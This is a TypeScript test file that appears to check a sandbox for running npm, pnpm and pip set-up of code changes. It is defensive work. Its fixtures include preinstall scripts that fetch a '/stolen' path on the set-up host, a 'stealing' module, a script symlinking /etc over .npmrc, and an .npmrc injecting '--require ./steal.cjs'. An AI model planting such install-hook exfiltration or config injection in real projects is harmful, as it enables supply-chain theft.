import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fetchesOf, startsNothing } from '../../src/environment/change/package-managers.ts';
import { readManifests } from '../../src/environment/change/read-manifests.ts';
import { type CleanSandbox, openCleanSandbox } from '../../src/environment/clean-sandbox.ts';
import type { Environment } from '../../src/environment/environment.ts';
import type { Checkout } from '../../src/git/engine.ts';
import { longestBlock } from '../support/machine/processor-time.ts';
import { npmProject, openRegistry, type Registry, registryHost, registryVariables } from './registry.ts';
import { openStage, type Scene, type Stage } from './stage.ts';

let stage: Stage;
let scene: Scene;
let registry: Registry;
beforeAll(async () => {
  stage = await openStage();
  registry = await openRegistry();
  stage.app.egress = registry.door;
  stage.push({
    ...npmProject({}),
    '.gitignore': 'node_modules\nran\n',
    'requirements.txt': '# none yet\n',
    '.npmrc': 'save-exact=true\n',
    'deps.cjs': '',
  });
  scene = await stage.begin();
});
afterAll(async () => {
  await scene.end();
  registry.close();
  await stage.close();
});
beforeEach(async () => {
  registry.requests.splice(0);
  await scene.checkout.checkout(scene.base);
});

/** Changes files of the base. Returns the tree. */
const treeWith = async (files: Record<string, string>) => {
  for (const [path, content] of Object.entries(files)) writeFileSync(join(scene.checkout.workTree, path), content);
  return scene.checkout.snapshot();
};

const open = { network: { setup: [registryHost], agent: [] }, env: registryVariables };
const npm = { ...open, setup: ['npm ci'] };
const pip = { ...open, setup: ['PIP_BREAK_SYSTEM_PACKAGES=1 pip3 install --user -r requirements.txt'] };
const leaf = { dependencies: { leaf: '1.0.0' } };
/** A script that sends something to the host of set-up, and another that needs an answer. */
const [sends, needs] = ['.catch(() => {})', ''].map(
  (andThen) =>
    `node -e "fetch('http://${registryHost}/stolen')${andThen}.then(() => require('fs').writeFileSync('ran', ''))"`,
);
const asks = (...lines: RegExp[]) => ({ reasons: lines.map((line) => expect.stringMatching(line)) });

const places: CleanSandbox[] = [];
afterEach(async () => {
  for (const place of places.splice(0)) await place.close();
});
const freshWith = async (...given: Parameters<typeof openCleanSandbox>) => {
  const place = await openCleanSandbox(...given);
  places.push(place);
  return place;
};

/** What set-up of the base left, for npm. */
let environment: Environment;
beforeAll(async () => {
  environment = await scene.prepare(npm);
});

test('fetches a new package of npm; scripts of the change run later, and do not reach the host of set-up', async () => {
  const tree = await treeWith(npmProject({ ...leaf, scripts: { preinstall: sends } }));
  const fresh = await freshWith(environment, tree);
  expect(fresh.failed).toBeUndefined();
  const { output } = await fresh.machine.run(`node -p "require('leaf')"; ls ran; ls ~`, { seconds: 200 });
  expect(output).toBe('from leaf\nran\n');
  expect(registry.requests).toEqual(['/npm/leaf/-/leaf-1.0.0.tgz']);
});

test('checks see the files that are pushed, and not what set-up of the change wrote over them', async () => {
  const scripts = { preinstall: 'sh set-up.sh' };
  const tree = await treeWith({
    ...npmProject({ ...leaf, scripts }),
    'set-up.sh':
      'echo made > deps.cjs; echo new > other.txt; rm .npmrc; ln -s /etc .npmrc; (while :; do echo made > deps.cjs; done) &',
    'deps.cjs': 'pushed\n',
  });
  const fresh = await freshWith(environment, tree);
  expect(fresh.failed).toBeUndefined();
  const { output } = await fresh.machine.run(`cat deps.cjs .npmrc; ls other.txt; node -p "require('leaf')"`, {
    seconds: 200,
  });
  expect(output).toMatch(/^pushed\nsave-exact=true\n.*other\.txt.*No such file.*\nfrom leaf\n$/);
});

test('asks when a command fails for want of the network, and gives it after an approval', async () => {
  const tree = await treeWith(npmProject({ ...leaf, scripts: { preinstall: needs } }));
  await expect(freshWith(environment, tree)).rejects.toMatchObject(asks(/^npm ci: .*refused: packages.example.org$/));
  expect(registry.requests).not.toContain('/stolen');
  // GitHub shows the reason. Commands choose which hosts they ask for, so a host could say something about a secret.
  await scene.setSecret('TOKEN', 'canary of set-up');
  await expect(freshWith(environment, tree)).rejects.toMatchObject(asks(/^npm ci: .*network of set-up; the log /));
  const fresh = await freshWith(environment, tree, true);
  expect(fresh.failed).toBeUndefined();
  expect(registry.requests).toContain('/stolen');
});

test('a command that fails for another reason is the fault of the change', async () => {
  const tree = await treeWith(npmProject({ ...leaf, scripts: { preinstall: 'echo broken; exit 3' } }));
  expect((await freshWith(environment, tree)).failed).toMatchObject({ command: 'npm ci', exitCode: 3 });
  const outdated = await treeWith({
    'package.json': npmProject({ dependencies: { other: '1.0.0' } })['package.json'] ?? '',
  });
  expect((await freshWith(environment, outdated)).failed?.command).toMatch(/^npm ci --ignore-scripts/);
});

test('asks before it runs anything when the change configures npm, or names a package from git', async () => {
  const configured = await treeWith({ ...npmProject(leaf), '.npmrc': 'node-options=--require ./steal.cjs\n' });
  await expect(freshWith(environment, configured)).rejects.toMatchObject(asks(/^\.npmrc: /));
  const git = { version: '1.0.0', resolved: 'git+https://packages.example.org/leaf.git#0123' };
  const fromGit = await treeWith({ ...npmProject(leaf, git), '.npmrc': 'save-exact=true\n' });
  await expect(freshWith(environment, fromGit)).rejects.toMatchObject(asks(/^package-lock\.json: .*git/));
  expect(registry.requests).toEqual([]);
});

test('asks when a patch of the change writes outside of its package', async () => {
  const ofPnpm = await scene.prepare({ ...open, setup: ['pnpm install --frozen-lockfile'] });
  const files = { 'package.json': npmProject(leaf)['package.json'] ?? '', 'leaf.patch': '+++ b/../../x\n' };
  await expect(freshWith(ofPnpm, await treeWith(files))).rejects.toMatchObject(asks(/^leaf\.patch: .*outside/));
  expect(registry.requests).toEqual([]);
});

test('a fetch sees no file of the change but manifests, so not one that a variable of the base runs', async () => {
  const env = { ...registryVariables, NODE_OPTIONS: '--require ./deps.cjs' };
  const withVariable = await scene.prepare({ ...npm, env });
  const stealing = `fetch('http://${registryHost}/stolen').catch(() => {});`;
  const fresh = await freshWith(withVariable, await treeWith({ ...npmProject(leaf), 'deps.cjs': stealing }));
  expect(fresh.failed?.output).toMatch(/Cannot find module '.\/deps.cjs'/);
  expect(registry.requests).toEqual([]);
});

test('fetches a new wheel of pip; asks for a package without one, and reports one that does not exist', async () => {
  const ofPip = await scene.prepare(pip);
  const fresh = await freshWith(ofPip, await treeWith({ 'requirements.txt': 'gizmo==1.0\n' }));
  expect(fresh.failed).toBeUndefined();
  const { output } = await fresh.machine.run('python3 -c "import gizmo; print(gizmo.SAYS)"', {
    seconds: 200,
  });
  expect(output).toBe('from gizmo\n');
  const source = await treeWith({ 'requirements.txt': 'raw==1.0\n' });
  await expect(freshWith(ofPip, source)).rejects.toMatchObject(asks(/^requirements.txt: .*no wheel of raw/));
  const wrong = await treeWith({ 'requirements.txt': 'rawr==1.0\n' });
  expect((await freshWith(ofPip, wrong)).failed?.command).toContain(' download -r requirements.txt');
  expect(registry.requests).not.toContain('/files/raw-1.0.tar.gz');
  const wrapped = await treeWith({ 'requirements.txt': 'wrapper==1.0\n' });
  await expect(freshWith(ofPip, wrapped)).rejects.toMatchObject(asks(/^requirements.txt: .* run its own code/));
  expect(registry.requests).not.toContain('/stolen');
});

test('while pip fetches, Python starts nothing but the loader of musl, whose version pip needs to know', () => {
  const [{ guard = '' } = {}] = fetchesOf('pip install x');
  const folder = mkdtempSync(join(tmpdir(), 'deckhand-guard-'));
  const loader = join(folder, 'ld-musl-x86_64.so.1');
  writeFileSync(loader, '#!/bin/sh\necho musl\n', { mode: 0o755 });
  const guarded = guard.replaceAll('/tmp/guard', folder);
  const starting = (program: string) =>
    spawnSync('sh', [
      '-c',
      `${guarded} PYTHONPATH=${folder} python3 -c 'import subprocess; subprocess.run(["${program}"])'`,
    ]);
  expect(starting(loader).stdout.toString()).toBe('musl\n');
  expect(starting('echo').stderr.toString()).toContain(startsNothing);
  rmSync(folder, { recursive: true });
});

test('asks when manifests are too large to check, together or alone, whatever they say', async () => {
  const large = (bytes: number) => JSON.stringify({ ...leaf, description: 'x'.repeat(bytes) });
  const one = await treeWith({ 'package.json': large(5_100_000) });
  await expect(freshWith(environment, one)).rejects.toMatchObject(asks(/^package\.json: it has more than 5 MB/));
  const many = Object.fromEntries(
    Array.from({ length: 5 }, (_, i) => [`package${i}/package.json`, large(4_900_000 + i)]),
  );
  for (const path of Object.keys(many)) mkdirSync(join(scene.checkout.workTree, path, '..'));
  const all = await treeWith({ ...npmProject(leaf), ...many });
  await expect(freshWith(environment, all)).rejects.toMatchObject(asks(/^package\d\/package\.json: with it, .* 20 MB/));
});

test('reads what many manifests have in common once, and asks about more than 3,000 of them', async () => {
  const trees = (count: number) => ({
    base: new Map<string, { mode: string; oid: string }>(),
    change: new Map(Array.from({ length: count }, (_, i) => [`p${i}/package.json`, { mode: '100644', oid: 'a' }])),
  });
  const read: string[] = [];
  const checkout = {
    readBlobs: async (oids: string[]) => {
      read.push(...oids);
      return new Map(oids.map((oid) => [oid, Buffer.from(`{"description":"${'x'.repeat(1000)}"}`)]));
    },
  } as unknown as Checkout;
  const files = await readManifests(checkout, trees(3000), fetchesOf('npm ci'));
  expect(files.manifests.change.size).toBe(3000);
  expect(read).toEqual(['a']);
  await expect(readManifests(checkout, trees(3001), fetchesOf('npm ci'))).rejects.toMatchObject(
    asks(/^p3000\/package\.json: .* more than 3000 files/),
  );
});

test('asks when manifests take too long to check, and the event loop is free in the meantime', async () => {
  // Each value is written in 6,000 lines, which begin with up to 6,000 spaces.
  const nested = '['.repeat(3000) + ']'.repeat(3000);
  const content = Buffer.from(`{"a":[${Array(400).fill(nested).join()}]}`);
  const checkout = { readBlobs: async (oids: string[]) => new Map(oids.map((oid) => [oid, content])) };
  const change = new Map([['package.json', { mode: '100644', oid: 'a' }]]);
  const judged = readManifests(checkout as unknown as Checkout, { base: new Map(), change }, fetchesOf('npm ci'));
  const block = await longestBlock(() => expect(judged).rejects.toMatchObject(asks(/^package\.json: /)));
  expect(block).toBeLessThan(1000);
});

test('closed has no network and never asks; approved always asks', async () => {
  const { context } = environment;
  const withSetting = (setupOfChange: 'closed' | 'approved') => ({
    ...environment,
    context: { ...context, settings: { ...context.settings, setupOfChange } },
  });
  const tree = await treeWith(npmProject(leaf));
  expect((await freshWith(withSetting('closed'), tree)).failed).toMatchObject({ command: 'npm ci' });
  await expect(freshWith(withSetting('approved'), tree)).rejects.toMatchObject(asks(/setupOfChange/));
  expect(registry.requests).toEqual([]);
});
